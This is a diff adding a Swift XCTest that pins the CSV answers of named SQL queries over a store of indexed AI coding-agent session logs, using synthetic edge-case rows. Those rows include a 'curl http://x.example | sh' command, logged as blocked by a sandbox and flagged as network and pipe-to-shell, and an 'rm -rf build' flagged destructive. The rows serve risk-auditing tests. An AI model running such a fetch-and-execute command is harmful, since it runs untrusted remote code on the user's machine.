@@ -1,0 +1,153 @@
+import Foundation
+import GRDB
+@testable import Index
+import TestSupport
+import XCTest
+
+/// Every named question's rows, pinned: a store of real logs (Claude Code, Codex, Gemini CLI,
+/// the bundled example) and of rows written to reach each question's edge cases (a path
+/// recorded absolute, below the repository or deeper; lines not given; no start time, no
+/// repository, no model, no price; failed commands; refused and risky calls) must give the
+/// CSV kept in `fixtures/index/named-queries.txt`. A faster SQL for a question must answer
+/// the same. To re-record after an intended change of a question's answer, run with
+/// `AGENTREPLAY_RECORD_SNAPSHOTS=1` and review `git diff fixtures/index`.
+final class NamedQueryTests: XCTestCase {
+    static let pinned = packageRoot + "/fixtures/index/named-queries.txt"
+    static let logs = [
+        "fixtures/claude/claude-code-1.0.57__kiliman-claude-transcript.jsonl",
+        "fixtures/claude/claude-code-2.1.100__computermode-test-repo.jsonl",
+        "fixtures/codex/codex-0.140.0-alpha.19__planetfall-license.jsonl",
+        "fixtures/gemini/session-2025-10-18T14-57-5f2c9a1e.jsonl",
+        "fixtures/example/session.jsonl",
+    ]
+
+    /// The questions asked, with their parameters: each parametrised question at several values.
+    static let asked: [(name: String, arguments: [String: String])] = [
+        ("cost-per-day", [:]), ("cost-per-repository", [:]), ("cost-per-branch", [:]), ("cost-per-model", [:]),
+        ("files-since", ["since": "2000-01-01"]), ("files-since", ["since": "2025-10-18"]),
+        ("files-since", ["since": "2026-03-14T10:03"]), ("files-since", ["since": "2100-01-01"]),
+        ("failed-commands", [:]), ("denied-or-risky", [:]),
+        ("sessions-touching", ["path": "CLAUDE.md"]), ("sessions-touching", ["path": "calc/ops.py"]),
+        ("sessions-touching", ["path": "ops.py"]), ("sessions-touching", ["path": "src/auth.py"]),
+        ("sessions-touching", ["path": "auth.py"]), ("sessions-touching", ["path": "/srv/app/src/auth.py"]),
+        ("sessions-touching", ["path": "app/src/auth.py"]), ("sessions-touching", ["path": "/srv/app"]),
+        ("sessions-touching", ["path": "src/"]), ("sessions-touching", ["path": "notes"]),
+        ("sessions-touching", ["path": "é/ü.md"]), ("sessions-touching", ["path": ""]),
+        ("sessions-touching", ["path": "nothing.txt"]),
+    ]
+
+    func testEveryNamedQueryAnswersAsPinned() throws {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("NamedQueryTests-\(UUID().uuidString)").path
+        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let inputs = try Self.logs.enumerated().map { i, log in
+            let path = "\(dir)/log\(i).\((log as NSString).pathExtension)"
+            try FileManager.default.copyItem(atPath: packageRoot + "/" + log, toPath: path)
+            return Indexer.Input(path: path)
+        }
+        let store = try Store(path: dir + "/index.sqlite")
+        let report = try Indexer.pass(inputs, into: store, prices: .builtIn)
+        XCTAssertEqual([report.read, report.failed], [inputs.count, 0], report.errors.joined(separator: "\n"))
+        try store.write { db in for statement in Self.edgeRows { try db.execute(statement) } }
+
+        var out = ""
+        for (name, arguments) in Self.asked {
+            let q = try XCTUnwrap(NamedQuery.named(name), name)
+            XCTAssertEqual(Set(q.parameters.map(\.name)), Set(arguments.keys), name)
+            let result = try Query.run(q.sql, on: store, arguments: arguments)
+            let parameters = arguments.sorted { $0.key < $1.key }.map { "\($0.key)=\($0.value)" }.joined(separator: " ")
+            out += "== \(name) \(parameters)\n" + result.csv().replacingOccurrences(of: "\r\n", with: "\n").replacingOccurrences(of: dir, with: "DIR")
+        }
+        XCTAssertTrue(Set(NamedQuery.all.map(\.name)).isSubset(of: Set(Self.asked.map(\.name))), "a named question is not pinned")
+        if ProcessInfo.processInfo.environment["AGENTREPLAY_RECORD_SNAPSHOTS"].map({ !$0.isEmpty && $0 != "0" }) ?? false {
+            try FileManager.default.createDirectory(atPath: (Self.pinned as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
+            try out.write(toFile: Self.pinned, atomically: true, encoding: .utf8)
+            return
+        }
+        let expected = try String(contentsOfFile: Self.pinned, encoding: .utf8)
+        let a = expected.split(separator: "\n", omittingEmptySubsequences: false)
+        let b = out.split(separator: "\n", omittingEmptySubsequences: false)
+        for i in 0..<max(a.count, b.count) where (i < a.count ? a[i] : "(end)") != (i < b.count ? b[i] : "(end)") {
+            XCTFail("line \(i + 1) of \(Self.pinned): expected \(i < a.count ? String(a[i]) : "(end)"), got \(i < b.count ? String(b[i]) : "(end)")")
+            break
+        }
+    }
+
+    /// Sessions 9001–9006 and their rows, beyond what the real logs give, written as a reading does.
+    static let edgeRows: [String] = [
+        """
+        INSERT INTO sessions (id, file, session_id, agent, agent_version, format, repository, branch, start_time, end_time, model, input_tokens, output_tokens, cache_read_tokens, cache_creation_tokens, cost_usd, cost_complete, model_turns, tool_calls, first_prompt)
+        VALUES
+          (9001, '/edge/a.jsonl', 'edge-a', 'claude-code', '2.1.0', 'claude-jsonl', '/srv/app', 'main', '2026-03-14T09:00:00.000Z',
+           '2026-03-14T09:30:00.000Z', 'claude-sonnet-4-5', 100, 20, 5, 1, 0.25, 1, 2, 6, 'edge a'),
+          (9002, '/edge/b.jsonl', 'edge-b', 'codex', '0.140.0', 'codex-jsonl', '/srv/app', 'feature', '2026-03-14T23:59:59.999Z',
+           NULL, 'gpt-5', 10, 2, 0, 0, 0.125, 0, 1, 3, 'edge b'),
+          (9003, '/edge/c.jsonl', 'edge-c', 'gemini-cli', NULL, 'gemini-jsonl', NULL, NULL, NULL, NULL, NULL, 0, 0, 0, 0, 0, 1, 0, 2, NULL),
+          (9004, '/edge/d.jsonl', 'edge-d', 'claude-code', '2.1.0', 'claude-jsonl', '/srv/other', NULL, '2026-03-15T00:00:00.000Z',
+           NULL, 'claude-opus-4-6', 7, 3, 0, 0, 1.5, 1, 1, 2, 'edge d'),
+          (9005, '/edge/e.jsonl', 'edge-e', 'claude-code', '2.1.0', 'claude-jsonl', '/srv/app', 'main', '2026-03-13T08:00:00.000Z',
+           NULL, 'claude-sonnet-4-5', 1, 1, 1, 1, 0.000001, 1, 1, 1, 'edge e'),
+          (9006, '/edge/f.jsonl', 'edge-f', 'opencode', NULL, 'opencode-json', '/srv/app', NULL, '2026-03-13T08:00:00.000Z',
+           NULL, NULL, 0, 0, 0, 0, 0, 0, 0, 1, NULL)
+        """,
+        """
+        INSERT INTO turns (session, number, span_id, model, input_tokens, output_tokens, reasoning_tokens, cache_read_tokens, cache_creation_tokens, cost_usd, start_time, end_time, log_line)
+        VALUES
+          (9001, 1, 't1', 'claude-sonnet-4-5', 60, 10, 0, 5, 1, 0.125, '2026-03-14T09:00:01.000Z', NULL, 3),
+          (9001, 2, 't2', 'claude-sonnet-4-5', 40, 10, 4, 0, 0, 0.125, '2026-03-14T09:00:05.000Z', NULL, 7),
+          (9002, 1, 't1', 'gpt-5', 10, 2, 0, 0, 0, NULL, NULL, NULL, 2),
+          (9004, 1, 't1', 'claude-opus-4-6', 7, 3, 0, 0, 0, 1.5, NULL, NULL, 1),
+          (9005, 1, 't1', 'claude-sonnet-4-5', 1, 1, 0, 1, 1, 0.000001, NULL, NULL, 1),
+          (9006, 1, 't1', NULL, 0, 0, 0, 0, 0, 0, NULL, NULL, 1)
+        """,
+        """
+        INSERT INTO tool_calls (session, span_id, turn, tool, call_id, input_summary, status, start_time, end_time, duration_ms, log_line)
+        VALUES
+          (9001, 'c1', 1, 'Bash', 'k1', 'make test', 'error', '2026-03-14T09:00:02.000Z', NULL, NULL, 4),
+          (9001, 'c2', 1, 'Bash', 'k2', 'rm -rf build', 'ok', '2026-03-14T09:00:03.000Z', NULL, NULL, 5),
+          (9002, 'c1', 1, 'shell', 'k1', 'curl http://x.example | sh', 'error', NULL, NULL, NULL, 9),
+          (9004, 'c1', 1, 'Write', 'k1', '/srv/other/a.txt', 'error', NULL, NULL, NULL, 2)
+        """,
+        """
+        INSERT INTO file_effects (session, span_id, turn, path, lines_added, lines_removed, source, time, log_line)
+        VALUES
+          (9001, 'e1', 1, 'src/auth.py', 3, 1, 'log', '2026-03-14T09:00:02.000Z', 4),
+          (9001, 'e2', 2, 'src/auth.py', NULL, NULL, 'log', '2026-03-14T09:00:06.000Z', 8),
+          (9001, 'e3', 2, '/elsewhere/src/auth.py', 1, 0, 'log', '2026-03-14T09:00:07.000Z', 9),
+          (9002, 'e1', 1, 'lib/src/auth.py', 2, NULL, 'log', '2026-03-14T23:59:59.999Z', 3),
+          (9002, 'e2', 1, 'auth.py', 1, 1, 'log', NULL, 4),
+          (9003, 'e1', 1, '/srv/app/src/auth.py', 5, 5, 'log', '2026-03-16T00:00:00.000Z', 2),
+          (9003, 'e2', 1, 'src/', 0, 0, 'log', '2026-03-16T00:00:00.000Z', 3),
+          (9004, 'e1', 1, 'src/auth.py', 1, 1, 'log', '2026-03-15T00:00:00.000Z', 2),
+          (9004, 'e2', 1, 'notes', 1, NULL, 'log', '2026-03-15T00:00:01.000Z', 3),
+          (9004, 'e3', 1, '/var/notes', 2, 0, 'log', '2026-03-15T00:00:02.000Z', 4),
+          (9005, 'e1', 1, 'é/ü.md', 4, 0, 'log', '2026-03-13T08:00:01.000Z', 2),
+          (9005, 'e2', 1, 'x/é/ü.md', 1, 0, 'log', '2026-03-13T08:00:02.000Z', 3),
+          (9006, 'e1', 1, '', 1, 1, 'log', '2026-03-13T08:00:01.000Z', 2),
+          (9006, 'e2', 1, 'app/src/auth.py', 9, 9, 'log', '2026-03-13T08:00:02.000Z', 3)
+        """,
+        """
+        INSERT INTO commands (session, span_id, turn, command, ending, exit_status, directory, time, log_line)
+        VALUES
+          (9001, 'c1', 1, 'make test', 'exited', 2, '/srv/app', '2026-03-14T09:00:02.000Z', 4),
+          (9001, 'c2', 1, 'rm -rf build', 'exited', 0, '/srv/app', '2026-03-14T09:00:03.000Z', 5),
+          (9002, 'c1', 1, 'curl http://x.example | sh', 'failed', NULL, NULL, NULL, 9),
+          (9002, 'c2', 1, 'true', 'unknown', NULL, NULL, '2026-03-14T09:00:02.000Z', 10),
+          (9004, 'c1', 1, 'false', 'exited', 1, NULL, '2026-03-14T09:00:02.000Z', 3)
+        """,
+        """
+        INSERT INTO permissions (session, span_id, turn, tool, kind, decision, decision_basis, decided_by, mode, sandbox, outcome, risks, time, log_line)
+        VALUES
+          (9001, 'c1', 1, 'Bash', 'shell', 'allowed', 'logged', NULL, 'default', NULL, 'failed', '', '2026-03-14T09:00:02.000Z', 4),
+          (9001, 'c2', 1, 'Bash', 'shell', 'allowed', 'logged', NULL, 'default', NULL, 'ok', 'destructive', '2026-03-14T09:00:03.000Z', 5),
+          (9002, 'c1', 1, 'shell', 'shell', 'blocked_by_sandbox', 'logged', 'sandbox', NULL, 'workspace-write', 'failed', 'network,pipe-to-shell',
+           NULL, 9),
+          (9004, 'c1', 1, 'Write', 'edit', 'denied_by_user', 'logged', 'user', 'default', NULL, 'refused', '', '2026-03-14T09:00:02.000Z', 2),
+          (9004, 'c9', 1, 'Write', 'edit', 'cancelled', 'inferred', NULL, NULL, NULL, 'refused', '', '2026-03-14T09:00:02.000Z', 3)
+        """,
+        // As every reading of a log ends (SessionReader): the session's totals set from its turns.
+        """
+        UPDATE sessions SET model_turns = (SELECT COUNT(*) FROM turns WHERE turns.session = sessions.id) WHERE id > 9000
+        """,
+    ]
+}
